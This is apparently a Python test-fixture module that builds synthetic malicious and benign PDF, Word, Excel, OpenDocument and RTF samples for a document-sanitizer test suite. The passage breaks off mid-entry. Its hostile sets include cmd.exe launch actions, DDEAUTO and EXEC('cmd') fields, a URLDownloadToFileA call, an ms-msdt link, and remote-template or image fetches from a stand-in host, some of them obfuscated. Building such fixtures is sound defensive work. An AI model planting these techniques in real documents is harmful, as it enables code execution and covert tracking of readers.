"""Documents that mean harm, and honest ones that look a little like them; all made here, none of them works.

HOSTILE and HONEST: {name: (media type, content)}. Sources of the kinds: the findings of the security review, and the lists of
oletools, pdfid and Dangerzone.
"""

import io
import zipfile

from pypdf.generic import ArrayObject, BooleanObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from tests.files import samples
from tests.files.samples import DOCX, ODT, XLSX

PDF, DOC, XLS, RTF, TEXT = "application/pdf", "application/msword", "application/vnd.ms-excel", "application/rtf", "text/plain"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
FAR = "https://ver.example/x"
EVIL = "\\\\ver\\deel\\x"


# --- PDF


def word(value):
    """Python values as those of a PDF: '/Name' is a name."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): word(inner) for key, inner in value.items()})
    if isinstance(value, list):
        return ArrayObject(map(word, value))
    if isinstance(value, bool):
        return BooleanObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    return value


def pdf(root=None, page=None, note=None, stream=None):
    """A PDF with these entries in its catalogue, its page, one note on it, or one stream."""

    def change(writer):
        for place, entries in ((writer._root_object, root), (writer.pages[0], page)):
            for key, value in (entries or {}).items():
                place[NameObject(key)] = word(value)
        if note:
            mark = word({"/Type": "/Annot", "/Rect": [0, 0, 10, 10], **note})
            writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(mark)])
        if stream:
            body = StreamObject()
            body.set_data(b"x")
            body.update(word(stream))
            writer._add_object(body)

    return PDF, samples.pdf("Verslag", change=change)


def action(kind, **more):
    return {"/S": kind, **{f"/{key}": value for key, value in more.items()}}


LINK = {"/Subtype": "/Link"}
FILE = {"/F": "lijst.txt", "/EF": {"/F": {"/Length": 0}}}
PDF_HOSTILE = {
    "opent een script": pdf(root={"/OpenAction": action("/JavaScript", JS="app.alert(1)")}),
    "script zonder soort": pdf(root={"/OpenAction": {"/JS": "app.alert(1)"}}),
    "start een programma": pdf(root={"/OpenAction": action("/Launch", F="cmd.exe")}),
    "start een programma na een klik": pdf(note=LINK | {"/A": action("/Launch", F="cmd.exe")}),
    "bladzijde opent een deel": pdf(page={"/AA": {"/O": action("/GoToR", F=EVIL, D=[0, "/Fit"])}}),
    "klik opent een deel": pdf(note=LINK | {"/A": action("/GoToR", F=EVIL, D=[0, "/Fit"])}),
    "opent een webpagina": pdf(root={"/OpenAction": action("/URI", URI=FAR)}),
    "bladzijde opent een webpagina": pdf(page={"/AA": {"/O": action("/URI", URI=FAR)}}),
    "muis opent een webpagina": pdf(note=LINK | {"/AA": {"/E": action("/URI", URI=FAR)}}),
    "tweede opdracht": pdf(root={"/OpenAction": action("/GoTo", D=[0], Next=action("/URI", URI=FAR))}),
    "klik op een script": pdf(note=LINK | {"/A": action("/URI", URI="javascript:app.alert(1)")}),
    "stuurt een formulier": pdf(note={"/Subtype": "/Widget", "/FT": "/Btn", "/A": action("/SubmitForm", F=FAR)}),
    "haalt gegevens op": pdf(root={"/OpenAction": action("/ImportData", F="x.fdf")}),
    "bijlage zonder soort": pdf(root={"/Names": {"/EmbeddedFiles": {"/Names": ["lijst.txt", FILE]}}}),
    "bijlage bij een bladzijde": pdf(page={"/AF": [FILE]}),
    "bijlage als aantekening": pdf(note={"/Subtype": "/FileAttachment", "/FS": {"/F": "x.exe"}}),
    "verborgen bijlage": pdf(root={"/Geheim": FILE}),
    "opent een bijlage": pdf(root={"/OpenAction": action("/GoToE", D=[0])}),
    "stroom op een adres": pdf(stream={"/F": {"/FS": "/URL", "/F": FAR}}),
    "PostScript": pdf(stream={"/Type": "/XObject", "/Subtype": "/PS"}),
    "bladzijde van elders": pdf(stream={"/Type": "/XObject", "/Subtype": "/Form", "/Ref": {"/F": FAR}}),
    "XFA-formulier": pdf(root={"/AcroForm": {"/Fields": [], "/XFA": "<xdp/>"}}),
    "film": pdf(note={"/Subtype": "/Movie", "/Movie": {"/F": "x.mov"}}),
    "geluid": pdf(note={"/Subtype": "/Sound"}),
    "Flash": pdf(note={"/Subtype": "/RichMedia"}),
    "driedimensionaal": pdf(note={"/Subtype": "/3D"}),
    "scherm": pdf(note={"/Subtype": "/Screen"}),
    "onbekende opdracht": pdf(root={"/OpenAction": action("/Nieuw")}),
    "opent een artikel van een deel": pdf(root={"/OpenAction": action("/Thread", F=EVIL, D=0)}),
    "bladzijde opent een artikel van een deel": pdf(page={"/AA": {"/O": action("/Thread", F={"/UF": EVIL}, D=0)}}),
    "bladzijde opent een deel van een ander bestand": pdf(page={"/AA": {"/O": action("/GoToDp", F=EVIL)}}),
}
PDF_HONEST = {
    "gewoon": pdf(),
    "opent op de eerste bladzijde": pdf(root={"/OpenAction": action("/GoTo", D=[0, "/Fit"])}),
    "koppeling na een klik": pdf(note=LINK | {"/A": action("/URI", URI="https://www.nvog.nl/richtlijn")}),
    "mailadres na een klik": pdf(note=LINK | {"/A": action("/URI", URI="mailto:info@example.org")}),
    "ander bestand na een klik": pdf(note=LINK | {"/A": action("/GoToR", F="bijlage.pdf", D=[0, "/Fit"])}),
    "opent op een artikel": pdf(root={"/OpenAction": action("/Thread", D=0)}),
    "sprong in het document": pdf(note=LINK | {"/Dest": [0, "/Fit"]}),
    "opent met afdrukken": pdf(root={"/OpenAction": action("/Named", N="/Print")}),
    "opmerking": pdf(note={"/Subtype": "/Text", "/Contents": "Graag nakijken"}),
    "markering": pdf(note={"/Subtype": "/Highlight", "/QuadPoints": [0, 0, 1, 0, 0, 1, 1, 1]}),
    "stempel": pdf(note={"/Subtype": "/Stamp", "/Name": "/Draft"}),
    "tekening": pdf(note={"/Subtype": "/Ink", "/InkList": [[0, 0, 1, 1]]}),
    "formulierveld": (PDF, samples.pdf("x", field=("naam", "waarde"))),
    "invulveld dat gewist wordt": pdf(note={"/Subtype": "/Widget", "/FT": "/Btn", "/A": action("/ResetForm")}),
    "doorschijnend": pdf(page={"/Group": {"/S": "/Transparency", "/CS": "/DeviceRGB"}}),
    "bladnummers": pdf(root={"/PageLabels": {"/Nums": [0, {"/S": "/D"}]}}),
    "kleurprofiel voor archief": pdf(root={"/OutputIntents": [{"/S": "/GTS_PDFA1", "/OutputConditionIdentifier": "sRGB"}]}),
    "gemerkt voor voorlezen": pdf(
        root={"/StructTreeRoot": {"/Type": "/StructTreeRoot", "/K": {"/S": "/P", "/A": {"/O": "/Layout"}}}}
    ),
    "lagen": pdf(note=LINK | {"/A": action("/SetOCGState", State=[])}),
    "foto": (PDF, samples.pdf("x", change=samples.with_photo)),
    "handtekening": (PDF, samples.pdf("x", change=samples.with_signature)),
}


# --- Word and Excel


def rels(kind, target, mode="Internal", family=KINDS):
    return (f'<Relationships xmlns="{samples.RELATIONS}"><Relationship Id="r9" Type="{family}/{kind}" Target="{target}" '
            f'TargetMode="{mode}"/></Relationships>')  # fmt: skip


def linked(kind, target, mode="External", family=KINDS, part="document"):
    return DOCX, samples.docx(**{f"word___rels__{part}.xml.rels": rels(kind, target, mode, family)})


def field(text, simple=False, pieces=1):
    """A Word document whose footer has a field with this instruction, cut into `pieces`."""
    text = text.replace("&", "&amp;").replace('"', "&quot;")
    size = -(-len(text) // pieces)
    runs = "".join(f"<w:instrText>{text[at : at + size]}</w:instrText>" for at in range(0, len(text), size))
    begin, between, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
    body = f'<w:fldSimple w:instr="{text}"/>' if simple else f"{begin}{runs}{between}<w:t>uitkomst</w:t>{end}"
    return DOCX, samples.docx(**{"word__footer1.xml": f"<w:ftr {samples.W}>{body}</w:ftr>"})


def typed(content_type, name="word/deel.bin"):
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="'
        'application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="jpeg" ContentType="image/jpeg"/>'
        f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    )
    return DOCX, samples.docx(**{"[Content_Types].xml": types, name: b"<x/>"})


SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def formula(text):
    return sheet(f"<sheetData><row><c><f>{text.replace('&', '&amp;').replace('<', '&lt;')}</f></c></row></sheetData>")


def sheet(body):
    return XLSX, repacked(samples.xlsx(), {"xl/worksheets/sheet1.xml": f"<worksheet {SHEET}>{body}</worksheet>"})


def repacked(content, changed):
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    return samples.package(parts | changed)


def vml(part):
    return DOCX, samples.docx(
        **{"word__t.xml": f'<x xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="{OFFICE_VML}">{part}</x>'}
    )


OFFICE_VML = "urn:schemas-microsoft-com:office:office"
MACRO_TYPE = "application/vnd.ms-office.vbaProject"
OFFICE_HOSTILE = {
    "macro's": (DOCX, samples.docx(**{"word__vbaProject.bin": b"x"})),
    "macro's onder een andere naam": typed(MACRO_TYPE, "word/notities.bin"),
    "macro's door een verwijzing": linked("vbaProject", "notities.bin", "Internal", MICROSOFT),
    "werkblad van Excel 4": typed("application/vnd.ms-excel.macrosheet+xml", "xl/gewoon.xml"),
    "dialoogblad": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml", "xl/d.xml"),
    "menu van een ander": (DOCX, samples.docx(**{"customUI__customUI14.xml": f'<customUI onLoad="{FAR}"/>'})),
    "menu onder een andere naam": (DOCX, samples.docx(**{"knoppen.xml": '<customUI xmlns="x" onLoad="y"/>'})),
    "menu door een verwijzing": linked("ui/extensibility", "knoppen.xml", "Internal", MICROSOFT),
    "toetsen": typed("application/vnd.ms-word.keyMapCustomizations+xml", "word/toetsen.xml"),
    "ingebed voorwerp": typed("application/vnd.openxmlformats-officedocument.oleObject", "word/embeddings/x.bin"),
    "ingebed programma": (DOCX, samples.docx(**{"word__embeddings__x.exe": b"MZ"})),
    "ActiveX": typed("application/vnd.ms-office.activeX+xml", "word/a.xml"),
    "ingevoegde webpagina": linked("aFChunk", "x.html", "Internal"),
    "sjabloon van elders": linked("attachedTemplate", FAR, part="settings"),
    "sjabloon van een deel": linked("attachedTemplate", EVIL, part="settings"),
    "kader van elders": linked("frame", FAR, part="webSettings"),
    "deeldocument van elders": linked("subDocument", FAR),
    "plaatje van elders": linked("image", FAR),
    "film van elders": linked("video", FAR),
    "voorwerp van elders": linked("oleObject", FAR),
    "onbekende verwijzing naar elders": linked("nieuwigheid", FAR),
    "samenvoegbron van elders": linked("mailMergeSource", EVIL, part="settings"),
    "klik op een script": linked("hyperlink", "javascript:alert(1)"),
    "klik op een macro": linked("hyperlink", "macro:Module1.Weg()"),
    "klik op een opdracht": linked("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "DDE": field("DDE cmd /c"),
    "DDEAUTO in stukken": field("DDEAUTO c:\\\\windows\\\\cmd.exe", pieces=6),
    "DDE in één": field("DDEAUTO cmd", simple=True),
    "INCLUDEPICTURE van elders": field(f'INCLUDEPICTURE "{FAR}" \\d'),
    "INCLUDETEXT van een deel": field('INCLUDETEXT "\\\\\\\\ver\\\\x.docx"'),
    "LINK van elders": field(f'LINK Excel.Sheet.12 "{FAR}" "Blad1!R1C1" \\a'),
    "IMPORT van elders": field(f"IMPORT {FAR}"),
    "RD van elders": field(f'RD "{FAR}"'),
    "DATABASE": field('DATABASE \\d "x" \\c "DSN=x"'),
    "MACROBUTTON": field("MACROBUTTON Uitvoeren Klik hier"),
    "onbekend veld": field("NIEUWVELD x"),
    "getekend plaatje van elders": (DOCX, samples.docx(**{"word__t.xml": f'<x xmlns:v="v"><v:imagedata src="{FAR}"/></x>'})),
    "vulling van elders": vml(f'<v:fill o:href="{FAR}"/>'),
    "lijn van een deel": vml(f'<v:stroke o:href="{EVIL}"/>'),
    "andere vulling van elders": vml(f'<v:fill o:althref="{FAR}"/>'),
    "plaatje van een deel": vml(f'<v:imagedata o:href="{EVIL}"/>'),
    "WEBSERVICE": formula(f'_xlfn.WEBSERVICE("{FAR}")'),
    "IMAGE": formula(f'_xlfn.IMAGE("{FAR}")'),
    "RTD": formula('RTD("x",,"y")'),
    "CALL": formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
    "EXEC": formula('EXEC("cmd")'),
    "DDE in een cel": formula("cmd|'/c calc'!A0"),
    "HYPERLINK naar een script": formula('HYPERLINK("javascript:x","klik")'),
    "HYPERLINK naar een andere computer": formula(r'HYPERLINK("\\server\deel","klik")'),
    "HYPERLINK naar een sms": formula('HYPERLINK("sms:0612345678","klik")'),
    "onbekende functie": formula("NIEUWEFUNCTIE(1)"),
    "EXEC in LET": formula('_xlfn.LET(_xlpm.x,1,EXEC("cmd"))'),
    "onbekende functie in LET": formula("LET(x,1,NIEUWEFUNCTIE(x))"),
    "onbekende functie in LAMBDA": formula("_xlfn.LAMBDA(_xlpm.x,NIEUWEFUNCTIE(_xlpm.x))(1)"),
    "EXEC die op een naam lijkt": formula('_xlfn.LET(_xlpm.x,1,_xlpm.EXEC("cmd"))'),
    "verbinding": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "xl/connections.xml"),
    "opvraging": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", "xl/q.xml"),
    "gegevens uit een programma": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.volatileDependencies+xml"),
    "DDE in een werkmap": (XLSX, samples.docx(**{"xl__e.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'})),
}
OFFICE_HONEST = {
    "gewoon": (DOCX, samples.docx("x")),
    "werkmap": (XLSX, samples.xlsx()),
    "werkmap in een document": (DOCX, samples.docx(**{"word__embeddings__tabel.xlsx": samples.xlsx()})),
    "sjabloon op de eigen computer": linked("attachedTemplate", "file:///C:\\Sjablonen\\brief.dotx", part="settings"),
    "sjabloon bij naam": linked("attachedTemplate", "Normal.dotm", part="settings"),
    "plaatje uit een mail": linked("image", "cid:image001.png"),
    "koppeling na een klik": linked("hyperlink", "https://www.nvog.nl/"),
    "mailadres na een klik": linked("hyperlink", "mailto:info@example.org"),
    "klik op een deel": linked("hyperlink", "file:///C:/stukken/brief.docx"),
    "klik op een vorm": vml('<v:shape href="https://www.nvog.nl/" o:href="https://www.nvog.nl/"/>'),
    "vulling van de eigen computer": vml('<v:fill o:href="file:///C:/plaatjes/papier.png"/>'),
    "opmerkingen": linked("comments", "comments.xml", "Internal"),
    "mensen": linked("people", "people.xml", "Internal", "http://schemas.microsoft.com/office/2011/relationships"),
    "strikt": linked("image", "media/image1.jpeg", "Internal", "http://purl.oclc.org/ooxml/officeDocument/relationships"),
    "verwijzing met andere letters": linked(
        "image", "media/image1.jpeg", "Internal", KINDS.replace("officeDocument", "officedocument")
    ),
    "bladnummer": field("PAGE"),
    "aantal bladen": field(" NUMPAGES \\* MERGEFORMAT "),
    "datum": field('DATE \\@ "d MMMM yyyy"', simple=True),
    "inhoudsopgave": field('TOC \\o "1-3" \\h \\z \\u'),
    "koppeling in een veld": field('HYPERLINK "https://www.nvog.nl/"'),
    "literatuur": field('ADDIN ZOTERO_ITEM CSL_CITATION {"citationID":"DDE"}'),
    "invulplek": field("MACROBUTTON NoMacro [Klik hier en typ de naam]"),
    "samenvoegveld": field("MERGEFIELD Naam"),
    "plaatje uit een mail in een veld": field('INCLUDEPICTURE "cid:image001.png@01D" \\* MERGEFORMATINET'),
    "rekensom": field("= 2 + 3"),
    "voorwaarde": field('IF 1 = 1 "DDE" "INCLUDETEXT"'),
    "in stukken": field("NUMPAGES", pieces=4),
    "som": formula("SUM(A1:A3)"),
    "zoeken": formula("IFERROR(VLOOKUP(A1,Blad2!A:B,2,FALSE),0)"),
    "nieuwe functies": formula("_xlfn.XLOOKUP(A1,B:B,_xlfn._xlws.SORT(C:C))"),
    "namen in een formule": formula("_xlfn.LET(_xlpm.x,1,_xlpm.x+1)"),
    "functie met een naam": formula("_xlfn.LET(_xlpm.btw,_xlfn.LAMBDA(_xlpm.x,_xlpm.x*1.21),_xlpm.btw(A1))"),
    "functie die zichzelf krijgt": formula("_xlfn.LAMBDA(_xlpm.f,_xlpm.f(2))(_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1))"),
    "tabelkop met haakjes": formula("SUM(Tabel1[leeftijd (jaren)])"),
    "tekst met streep": formula('IF(A1="a|b","DDE(x)",1)'),
    "koppeling in een cel": formula('HYPERLINK("https://www.nvog.nl/","klik")'),
    "draaitabel": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.pivotTable+xml", "xl/p.xml"),
}
for name in ("mensen", "draaitabel"):
    OFFICE_HONEST[name] = (DOCX, OFFICE_HONEST[name][1])


# --- OpenDocument

SPACES = {"office": "office", "text": "text", "draw": "drawing", "table": "table", "script": "script", "form": "form"}
NAMES = " ".join(f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"' for short, long in SPACES.items())
NAMES += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xf="http://www.w3.org/2002/xforms"'


def odt(body="", name="content.xml", **more):
    content = f"<office:document-content {NAMES}><office:body>{body}</office:body></office:document-content>"
    parts = {"mimetype": ODT, "content.xml": content}
    return ODT, samples.package(parts | ({name: body} if name != "content.xml" else {}) | more)


EVENT = '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="macro:///x"/>'
ODT_HOSTILE = {
    "macro bij openen": odt(f"<office:event-listeners>{EVENT}</office:event-listeners>"),
    "Basic": odt("<x/>", name="Basic/Standard/x.xml"),
    "scripts": odt("print(1)", name="Scripts/python/x.py"),
    "toetsen": odt("<x/>", name="Configurations2/accelerator/current.xml"),
    "DDE": odt('<office:dde-source office:dde-application="cmd"/>'),
    "DDE-verbinding": odt('<text:dde-connection-decl office:dde-application="cmd"/>'),
    "ingebed voorwerp": odt('<draw:object-ole xlink:href="./x"/>'),
    "invoegtoepassing": odt('<draw:plugin xlink:href="x"/>'),
    "kader": odt(f'<draw:floating-frame xlink:href="{FAR}"/>'),
    "plaatje van elders": odt(f'<draw:image xlink:href="{FAR}"/>'),
    "gedeelte van elders": odt(f'<text:section-source xlink:href="{FAR}"/>'),
    "tabel van elders": odt(f'<table:table-source xlink:href="{FAR}"/>'),
    "klik op een macro": odt('<text:a xlink:href="macro:///x"/>'),
    "klik op een macro van een knop": odt('<draw:a xlink:href="vnd.sun.star.script:x?language=Basic&amp;location=document"/>'),
    "klik op een script": odt('<text:a xlink:href="vnd.sun.star.script:x"/>'),
    "XForms": odt("<xf:model/>"),
    "onbekend onderdeel": odt("x", name="geheim.bin"),
    "voorwerp": odt("x", name="Object 1"),
}
ODT_HONEST = {
    "gewoon": (ODT, samples.odt()),
    "lege scripts": odt("<office:scripts/>"),
    "koppeling na een klik": odt('<text:a xlink:href="https://www.nvog.nl/"/>'),
    "eigen plaatje": odt('<draw:image xlink:href="Pictures/1.png"/>', **{"Pictures/1.png": samples.png()}),
    "lege toetsen": odt("", name="Configurations2/accelerator/current.xml"),
    "grafiek": odt("<x/>", name="Object 1/content.xml"),
}


# --- RTF, old Word and Excel, tables in text


def rtf(part):
    return RTF, rb"{\rtf1\ansi " + part + rb" Verslag\par}"


def shape(name, value):
    return rtf(rb"{\shp{\*\shpinst{\sp{\sn pibFlags}{\sv 10}}{\sp{\sn " + name + rb"}{\sv " + value + rb"}}}}")


def drawn(relations):
    """A shape as Word of today writes it beside the older form: a package in hexadecimal letters."""
    package = samples.package({"[Content_Types].xml": "<Types/>", "drs/_rels/shapexml.xml.rels": relations})
    return shape(b"metroBlob", rb"{\*\svb " + package.hex().encode() + b"}")


def outlook(*tags, beside=rb""):
    """A message that Outlook saved as RTF: HTML around the letters, and beside them what a program for RTF shows instead."""
    inside = b"".join(rb"{\*\htmltag84 " + tag + rb"}" for tag in tags)
    return RTF, (
        rb"{\rtf1\ansi\ansicpg1252\fromhtml1 \fbidi \deff0{\fonttbl{\f0\fswiss Arial;}}{\colortbl\red0\green0\blue0;}"
        rb"{\*\generator Microsoft Exchange Server;}{\*\formatConverter converted from html;}\uc1\pard\plain"
        rb"{\*\htmltag64}{\*\htmltag19 <html xmlns:o=\'22urn:schemas-microsoft-com:office:office\'22>}{\*\htmltag34 <head>}"
        rb'{\*\htmltag1 <meta http-equiv="Content-Type" content="text/html; charset=us-ascii">}'
        rb"{\*\htmltag241 <style>}"
        rb"{\*\htmltag241 <!--\par /* Font Definitions */\par @font-face\par \tab\{font-family:Calibri;\}\par -->}"
        rb"{\*\htmltag249 </style>}{\*\htmltag1 <!--[if !mso]><style>v\\:* \{behavior:url(#default#VML);\}</style><![endif]-->}"
        rb"{\*\htmltag41 </head>}"
        rb'{\*\htmltag50 <body lang="NL" link="#0563C1" style="word-wrap:break-word">}\htmlrtf \lang1043 \htmlrtf0'
        rb'{\*\htmltag64 <p class="MsoNormal">}\htmlrtf {\htmlrtf0 Beste collega\htmlrtf <anna@haven.example>\htmlrtf0'
        rb"{\*\htmltag148 <o:p>}{\*\htmltag156 </o:p>}" + inside + beside + rb"\htmlrtf\par}\htmlrtf0{\*\htmltag72 </p>}"
        rb"{\*\htmltag58 </body>}{\*\htmltag27 </html>}}"
    )


# What these programs write around the text, shortened.
WORD_RTF = (
    rb"{\rtf1\ansi\uc1{\fonttbl{\f0\froman{\*\panose 02020603050405020304}Times "
    rb"New Roman{\*\falt Times};}{\f39\fnil{\*\fname Symbol;}}}{\colortbl;\red0;}{\*\defchp \f31506}{\*\defpap \ql}"
    rb"{\stylesheet{\ql Normal;}{\*\cs10 \additive Default Paragraph Font;}{\*\ts11\tsrowd Normal Table;}}"
    rb"{\*\listtable{\list{\listlevel{\leveltext\'01;}{\levelnumbers;}}{\listname ;}}}{\*\listoverridetable{\listoverride}}"
    rb"{\*\pgptbl {\pgp\ipgp0}}{\*\rsidtbl \rsid1}{\*\revtbl {Unknown;}}{\mmathPr\mmathFont34}"
    rb"{\info{\title Verslag}{\author A}{\*\company Zorg}}{\*\userprops {\propname x}\proptype30{\staticval y}}"
    rb"{\*\xmlnstbl {\xmlns1 http://schemas.microsoft.com/office/word/2003/wordml}}{\*\wgrffmtfilter 2450}"
    rb"{\*\ftnsep \chftnsep}{\*\ftnsepc \chftnsepc}{\*\aftnsep \chftnsep}{\*\aftnsepc \chftnsepc}{\*\docvar {a}{b}}"
    rb"{\*\pnseclvl1\pnucrm{\pntxta .}}{\*\bkmkstart a}{\*\bkmkend a}"
    rb"{\*\background{\shp{\*\shpinst{\sp{\sn fillColor}{\sv 1}}}}}"
    rb"{\*\shppict{\pict{\*\picprop{\sp{\sn fLine}{\sv 0}}}\pngblip{\*\blipuid 00ff}89504e47}}{\nonshppict{\pict 00}}"
    rb"{\mmath{\*\moMath {\mr x}}}{\*\atrfstart 1}x{\*\atrfend 1}"
    rb"{\*\fchars !)}{\*\lchars (}{\*\protstart 1}{\*\protend 1}{\*\mvfmf 1}{\*\mvfml 1}"
    rb"{\*\atnid A}{\*\atnauthor B}\chatn{\*\annotation{\*\atnref 1}{\*\atndate 2}x}"
    rb"{\field\fldedit{\*\fldinst { HYPERLINK \"https://www.nvog.nl/\" }{{\*\datafield 00d0c9}}}{\fldrslt klik}}"
    rb"{\*\themedata 504b0304}{\*\colorschememapping 3c3f786d6c}{\*\latentstyles\lsdstimax376{\lsdlockedexcept Normal;}}"
    rb"{\*\datastore 0105}}"
)
LIBRE_RTF = (
    rb"{\rtf1\ansi\deff3\adeflang1025{\fonttbl{\f0\froman Times;}}{\stylesheet{\s0 Normal;}{\*\cs15\snext15 Internetlink;}}"
    rb"{\*\generator LibreOffice/24.2}{\info{\author A}{\creatim\yr2026}}{\*\userprops}\deftab709"
    rb"{\*\pgdsctbl{\pgdsc0\pgdscuse451{\*\pgdscnxt 0}Standaard;}}\formshade{\*\pgdscno0}"
    rb"{\*\hyphlead2\hyphtrail2\hyphmax0}{\*\ftnsep\chftnsep}{\*\updnprop5801}"
    rb"{\*\flymaincnt5\flyhorz0}{\field{\*\fldinst PAGE }{\fldrslt 1}}{\shp{\*\shpinst{\sp{\sn wzName}{\sv Beeld 1}}}}}"
)
WORDPAD_RTF = (
    rb"{\rtf1\ansi\nouicompat{\fonttbl{\f0\fnil Calibri;}}{\*\generator Riched20 10.0.22621}{\*\mmathPr\mdispDef1}"
    rb"\viewkind4\uc1 \pard{\pntext\f1\'B7\tab}{\*\pn\pnlvlblt\pnf1{\pntxtb\'B7}}Verslag\par}"
)
TEXTEDIT_RTF = (
    rb"{\rtf1\ansi\cocoartf2761{\colortbl;\red255;}{\*\expandedcolortbl;;}"
    rb"{\*\listtable{\list{\listlevel{\*\levelmarker \{o\}}}}}x}"
)


def doc(command):
    return DOC, samples.ole({"WordDocument": bytes(64) + f"\x13 {command} \x14x\x15".encode("cp1252")})


OLD_HOSTILE = {
    "RTF: voorwerp": rtf(rb"{\object\objemb{\*\objdata 0105}}"),
    "RTF: gekoppeld voorwerp": rtf(rb"{\object\objautlink}"),
    "RTF: sjabloon van elders": rtf(rb"{\*\template https://ver.example/x.dotm}"),
    "RTF: INCLUDEPICTURE in stukken": rtf(rb'{\field{\*\fldinst {INCL}{UDEPICTURE "https://ver.example/x"}}}'),
    "RTF: INCLUDETEXT": rtf(rb'{\field{\*\fldinst INCLUDETEXT "https://ver.example/x"}}'),
    "RTF: DDE": rtf(rb"{\field{\*\fldinst DDEAUTO cmd}}"),
    "RTF: plaatje van een vorm": shape(rb"pibName", rb"https://ver.example/x.png"),
    "RTF: plaatje van een vorm op een deel": shape(rb"pibName", rb"\\\\ver\\deel\\x.png"),
    "RTF: vulling van een vorm": shape(rb"fillBlipName", rb"https://ver.example/x.png"),
    "RTF: naam in stukken": shape(rb"p{ib}N\'61me", rb"{https}://ver.example/x"),
    "RTF: onbekende eigenschap": shape(rb"nieuwName", rb"https://ver.example/x"),
    "RTF: script bij een vorm": shape(rb"wzScript", rb"alert(1)"),
    "RTF: vorm in een plaatje": rtf(rb"{\pict{\*\picprop{\sp{\sn pibName}{\sv https://ver.example/x}}}}"),
    "RTF: nieuwe vorm van elders": drawn(rels("image", FAR, "External")),
    "RTF: nieuwe vorm die geen pakket is": shape(rb"metroBlob", rb"{\*\svb 4d5a9000}"),
    "RTF: macroknop": rtf(rb"{\field{\*\fldinst MACROBUTTON Weg Klik hier}{\fldrslt x}}"),
    "RTF: macroknop in een kop": rtf(rb"{\header{\field{\*\fldinst { MACRO}{BUTTON Weg Klik}}{\fldrslt x}}}"),
    "RTF: klik op een script": shape(rb"pihlShape", rb"{\*\hl{\hlsrc javascript:x}}"),
    "RTF: onbekend onderdeel": rtf(rb"{\*\nieuwigheid x}"),
    "RTF: onbekend onderdeel op een andere regel": rtf(b"{\\*\n \\nieuwigheid x}"),
    "RTF: bytes": rtf(rb'{\field{\*\fldinst \bin1 }INCLUDETEXT "https://ver.example/x"}}'),
    "RTF: basis van koppelingen": rtf(rb"{\info{\hlinkbase \\\\ver\\deel}}"),
    "RTF: veld in kleur": rtf(rb'{\field{\*\fldinst {\cf1 INCLUDETEXT "https://ver.example/x"}}}'),
    "RTF: veld in een eigenschap": rtf(rb'{\field{\*\fldinst {\sn INCLUDETEXT "https://ver.example/x"}}}'),
    "RTF: veld achter wat niet meetelt": rtf(rb'{\field{\*\fldinst {\author DATE }INCLUDETEXT "https://ver.example/x"}}'),
    "RTF: veld met letters die niet tellen": rtf(rb'{\field{\*\fldinst \uc6\u32 ?HYPERLINK Excel "https://ver.example/x"}}'),
    "RTF: samenvoegen": rtf(rb"{\*\mailmerge{\*\mmconnectstr DSN=x}}"),
    "RTF van Outlook: plaatje van elders": outlook(rb'<img src="https://ver.example/x.png">'),
    "RTF van Outlook: plaatje van een deel": outlook(rb"<img src=\'5c\'5cver\'5cdeel\'5cx.png>"),
    "RTF van Outlook: script": outlook(rb"<script>x()</script>"),
    "RTF van Outlook: script in een attribuut": outlook(rb'<p onclick="x()">'),
    "RTF van Outlook: script als koppeling": outlook(rb'<a href="javascript:x()">'),
    "RTF van Outlook: stijl van elders": outlook(rb"<link rel=stylesheet href=https://ver.example/x.css>"),
    "RTF van Outlook: stijl die iets ophaalt": outlook(rb"<style>p \{background:u\\72l(https://ver.example/x)\}</style>"),
    "RTF van Outlook: stijl in stukken": outlook(rb"<style>", rb"@im", rb"port 'https://ver.example/x'", rb"</style>"),
    "RTF van Outlook: plaatje in stukken": outlook(rb"<img sr", rb'c="https://ver.example/x">'),
    "RTF van Outlook: plaatje deels als tekst": outlook(rb'<img src="', beside=rb'https://ver.example/x{\*\htmltag84 ">}'),
    "RTF van Outlook: plaatje in een opmerking": outlook(
        rb'<!--[if mso]><v:imagedata src="https://ver.example/x"/><![endif]-->'
    ),
    "RTF van Outlook: plaatje achter een aanhalingsteken": outlook(rb'<p x"><img src=https://ver.example/x><p y">'),
    "RTF van Outlook: achtergrond": outlook(rb'<td background="//ver.example/x">'),
    "RTF van Outlook: doorverwijzing": outlook(rb'<meta http-equiv="refresh" content="0;https://ver.example/">'),
    "RTF van Outlook: andere pagina": outlook(rb'<iframe src="https://ver.example/"></iframe>'),
    "RTF van Outlook: adres in tekens": outlook(rb'<img src="&#104;ttps://ver.example/x">'),
    "RTF van Outlook: plaatje in mhtmltag": outlook(beside=rb'{\*\mhtmltag84 <img src="https://ver.example/x">}'),
    "RTF van Outlook: letter die Outlook overslaat": outlook(
        beside=rb'{\*\htmltag84 <img s}\htmlrtf x\htmlrtf0{\*\htmltag84 rc="https://ver.example/x">}'
    ),
    "RTF van Outlook: groep die Outlook overslaat": outlook(
